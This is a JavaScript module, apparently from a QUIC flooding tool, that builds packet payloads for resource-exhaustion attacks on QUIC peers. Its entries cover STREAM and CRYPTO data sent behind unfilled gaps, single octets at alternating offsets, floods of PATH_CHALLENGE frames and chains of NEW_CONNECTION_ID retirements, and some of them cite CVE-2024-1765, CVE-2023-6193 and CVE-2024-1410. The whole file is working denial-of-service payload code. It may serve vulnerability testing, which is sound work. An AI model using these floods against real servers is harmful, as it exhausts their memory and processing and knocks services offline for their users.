// Frames that a peer of QUIC keeps, or answers without bound: what each packet of a flood holds.
import { cryptoFrame, streamFrame, varint } from "./quic-packets.mjs";

/** The first octet that is sent: octet 0 never comes. */
const BEHIND_THE_GAP = 1;
const OCTET = Buffer.of(7);
/** With its length. */
const ONE_OCTET = Buffer.of(1, 7);
const BLOCK = Buffer.alloc(1200, 7);
const TICKS = Buffer.alloc(1200);
/** Blocks of ticks before the gap: some 11 MiB. */
const READ_BLOCKS = 10_000;
/** Most bytes of a frame before its data. */
const HEAD_BYTES = 24;
/** Streams of a kind that the peer grants. */
const STREAMS = 100;

const CHALLENGE_BYTES = 9;
const ANSWERED_OCTETS = 7;
/** Of a frame with its number, all before it, an id of 8 and a token of 16. */
const NEW_ID_BYTES = 34;
const CHALLENGES = Buffer.alloc(1200, Buffer.of(0x1a, 1, 2, 3, 4, 5, 6, 7, 8));

/**
 * A packet full of the same frame but for a number in four octets: `head`, the number, `tail`.
 * @param {(n: number) => number} value the number in the nth frame of the flood
 */
function filled(room, counter, [head, value, tail]) {
  const length = head.length + 4 + tail.length;
  const count = Math.floor(room / length);
  const packet = Buffer.alloc(count * length, Buffer.concat([head, Buffer.alloc(4), tail]));
  for (let i = 0; i < count; i++) packet.writeUInt32BE(0x80000000 + value(counter.next++), i * length + head.length);
  return packet;
}

function newIdFrame(n) {
  const frame = Buffer.alloc(NEW_ID_BYTES);
  frame[0] = 0x18;
  for (const at of [1, 5]) frame.writeUInt32BE(0x80000000 + n, at);
  frame[9] = 8;
  frame.writeUInt32BE(n, 10);
  return frame;
}

const block = (room) => BLOCK.subarray(0, room - HEAD_BYTES);
const everySecond = (n) => BEHIND_THE_GAP + 2 * n;

/**
 * Frames of one packet, by name. `room` is for frames, `counter.next` counts, `stream` is where STREAM frames go.
 * @type {Record<string, (room: number, counter: {next: number}, stream: number) => Buffer>}
 */
export const FLOODS = {
  /** STREAM data behind a gap, a full frame in each packet. */
  gap: (room, counter, stream) => {
    const bytes = block(room);
    return streamFrame(stream, BEHIND_THE_GAP + bytes.length * counter.next++, bytes);
  },
  /** The same on all streams of a kind in turn. */
  "gap-streams": (room, counter, stream) => {
    const bytes = block(room);
    const n = counter.next++;
    const offset = BEHIND_THE_GAP + bytes.length * Math.floor(n / STREAMS);
    return streamFrame((stream & 3) + 4 * (n % STREAMS), offset, bytes);
  },
  /** One octet at every second offset: each costs the receiver many times its size. */
  "gap-octets": (room, counter, stream) =>
    filled(room, counter, [Buffer.concat([Buffer.of(0x0e), varint(stream)]), everySecond, ONE_OCTET]),
  /** One such octet in each datagram. */
  "gap-small": (_room, counter, stream) => streamFrame(stream, everySecond(counter.next++), OCTET),
  /** Ticks that are read, and then data behind a gap: octets that were given pay for none that were not. */
  "gap-later": (room, counter, stream) => {
    const bytes = TICKS.subarray(0, room - HEAD_BYTES);
    const n = counter.next++;
    return streamFrame(stream, n * bytes.length + (n < READ_BLOCKS ? 0 : BEHIND_THE_GAP), bytes);
  },
  /** A few such octets with a challenge in each datagram: what the peer has to answer pays for nothing. */
  "gap-answered": (_room, counter, stream) => {
    const frames = Array.from({ length: ANSWERED_OCTETS }, () =>
      streamFrame(stream, everySecond(counter.next++), OCTET),
    );
    return Buffer.concat([CHALLENGES.subarray(0, CHALLENGE_BYTES), ...frames]);
  },
  /** CRYPTO data behind a gap after the handshake (CVE-2024-1765). */
  crypto: (room, counter) => {
    const bytes = block(room);
    return cryptoFrame(2 ** 20 + bytes.length * counter.next++, bytes);
  },
  "crypto-octets": (room, counter) => filled(room, counter, [Buffer.of(6), (n) => 2 ** 20 + 2 * n, ONE_OCTET]),
  /** Each is kept until it is answered, and the answers wait for the ACKs of others (CVE-2023-6193). */
  "path-challenge": (room) => CHALLENGES.subarray(0, room - (room % CHALLENGE_BYTES)),
  /** Each retires all before it, and each of those is to be told (CVE-2024-1410). */
  "new-connection-id": (room, counter) => {
    const count = Math.floor(room / NEW_ID_BYTES);
    return Buffer.concat(Array.from({ length: count }, () => newIdFrame(++counter.next)));
  },
};
